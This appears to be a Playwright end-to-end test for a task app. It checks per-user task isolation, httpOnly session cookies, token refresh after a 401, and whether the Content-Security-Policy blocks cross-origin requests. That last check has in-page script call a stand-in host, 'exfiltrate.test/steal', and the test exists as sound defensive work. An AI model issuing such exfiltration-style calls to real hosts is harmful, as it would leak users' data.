// Browser end-to-end test: headless Chromium (Debian's /usr/bin/chromium, driven by
// playwright-core) signs two people up and proves each sees only their own tasks.
// A screenshot of every step is saved in E2E_ARTIFACTS_DIR (default e2e/artifacts/).
import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";

import { ARTIFACTS_DIR, newUser, startServers } from "./harness.mjs";

const CHROMIUM = process.env.CHROMIUM_PATH ?? "/usr/bin/chromium";
const inCI = Boolean(process.env.CI) && process.env.CI !== "false";
if (!existsSync(CHROMIUM) && inCI) {
  throw new Error(`${CHROMIUM} is missing; CI must install it (apt-get install chromium)`);
}
const skip = existsSync(CHROMIUM) ? false : `no Chromium at ${CHROMIUM} (apt-get install chromium, or set CHROMIUM_PATH)`;

let servers;
let browser;

before(async () => {
  if (skip) return;
  const { chromium } = await import("playwright-core");
  servers = await startServers();
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    headless: true,
    args: [
      "--no-sandbox",
      "--disable-gpu",
      "--disable-quic",
      "--no-first-run",
      "--disable-background-networking",
      "--disable-component-update",
      "--disable-sync",
    ],
  });
});

after(async () => {
  await browser?.close();
  await servers?.stop();
});

let step = 0;
async function shot(page, name) {
  step += 1;
  await page.screenshot({ path: join(ARTIFACTS_DIR, `${String(step).padStart(2, "0")}-${name}.png`), fullPage: true });
}

async function signUp(page, person) {
  await page.goto(`${servers.authURL}/sign-up`);
  await page.getByLabel("Name").fill(person.name);
  await page.getByLabel("Email").fill(person.email);
  await page.getByLabel("Password").fill(person.password);
  await page.getByRole("button", { name: "Create account" }).click();
  await page.waitForURL(/\/tasks$/);
  await page.getByRole("heading", { name: "Your tasks" }).waitFor();
}

async function signIn(page, person) {
  await page.goto(`${servers.authURL}/sign-in`);
  await page.getByLabel("Email").fill(person.email);
  await page.getByLabel("Password").fill(person.password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.waitForURL(/\/tasks$/);
  await page.getByRole("heading", { name: "Your tasks" }).waitFor();
}

async function signOut(page) {
  await page.getByRole("button", { name: "Sign out" }).click();
  await page.waitForURL(/\/sign-in$/);
}

async function addTask(page, title) {
  await page.getByLabel("Title", { exact: true }).fill(title);
  await page.getByRole("button", { name: "Add task" }).click();
  await page.getByTestId("task").filter({ hasText: title }).waitFor();
}

const taskTitles = (page) => page.getByTestId("task-title").allTextContents();

test("A's tasks stay A's: sign up, add, complete, sign out; B sees nothing; A sees both", { skip }, async () => {
  const alice = newUser("alice");
  const bob = newUser("bob");
  const context = await browser.newContext();
  const page = await context.newPage();
  // The Content-Security-Policy (proxy.ts) must not block anything the app itself does.
  const violations = [];
  page.on("console", (message) => {
    if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
  });

  await signUp(page, alice);
  await page.getByText("No tasks yet").waitFor();
  await shot(page, "alice-signed-up");

  await addTask(page, "Buy milk");
  await addTask(page, "Call the bank");
  assert.deepEqual((await taskTitles(page)).sort(), ["Buy milk", "Call the bank"]);
  await shot(page, "alice-two-tasks");

  await page.getByRole("checkbox", { name: "Complete Buy milk" }).check();
  const milk = page.getByTestId("task").filter({ hasText: "Buy milk" });
  await page.waitForFunction((el) => el.dataset.completed === "true", await milk.elementHandle());
  await shot(page, "alice-completed-one");

  // The JWT lives in memory only; the session cookie is invisible to scripts (httpOnly).
  const storage = await page.evaluate(() => ({
    local: JSON.stringify({ ...localStorage }),
    session: JSON.stringify({ ...sessionStorage }),
    cookies: document.cookie,
  }));
  assert.doesNotMatch(storage.local + storage.session, /eyJ/, "a JWT was written to web storage");
  assert.doesNotMatch(storage.cookies, /session_token/, "the session cookie is readable by scripts");

  await signOut(page);
  await shot(page, "alice-signed-out");

  // Same tab: B must not inherit A's in-memory token.
  await signUp(page, bob);
  await page.getByText("No tasks yet").waitFor();
  assert.deepEqual(await taskTitles(page), []);
  await shot(page, "bob-sees-nothing");
  await signOut(page);

  await signIn(page, alice);
  await page.getByTestId("task").first().waitFor();
  assert.deepEqual((await taskTitles(page)).sort(), ["Buy milk", "Call the bank"]);
  assert.equal(await milk.getAttribute("data-completed"), "true");
  assert.equal(
    await page.getByTestId("task").filter({ hasText: "Call the bank" }).getAttribute("data-completed"),
    "false",
  );
  await shot(page, "alice-sees-both");
  assert.deepEqual(violations, [], "the app's own pages broke its Content-Security-Policy");

  // ... and it does block what the app never does: a script calling another origin.
  const blocked = await page.evaluate(async () => {
    const violation = new Promise((resolve) =>
      document.addEventListener("securitypolicyviolation", (e) => resolve(e.effectiveDirective), { once: true }),
    );
    await fetch("http://exfiltrate.test/steal").catch(() => {});
    return Promise.race([violation, new Promise((resolve) => setTimeout(() => resolve(null), 3000))]);
  });
  assert.equal(blocked, "connect-src");
  await context.close();
});

test("a 401 from the backend makes the client fetch a fresh token and retry once", { skip }, async () => {
  const carol = newUser("carol");
  const context = await browser.newContext();
  const page = await context.newPage();
  await signUp(page, carol);
  await addTask(page, "Survive a 401");

  let tokenRequests = 0;
  page.on("request", (request) => {
    if (request.url().endsWith("/api/auth/token")) tokenRequests += 1;
  });
  let rejected = 0;
  await page.route(`${servers.backendURL}/**`, async (route) => {
    if (route.request().method() === "GET" && rejected === 0) {
      rejected += 1;
      await route.fulfill({
        status: 401,
        headers: { "WWW-Authenticate": "Bearer", "Access-Control-Allow-Origin": servers.authURL },
        body: '{"detail":"token expired"}',
      });
      return;
    }
    await route.continue();
  });
  await page.reload();
  await page.getByTestId("task").filter({ hasText: "Survive a 401" }).waitFor();
  assert.equal(rejected, 1);
  assert.ok(tokenRequests >= 2, `expected a refresh after the 401, saw ${tokenRequests} token request(s)`);
  await shot(page, "carol-after-401-refresh");
  await context.close();
});
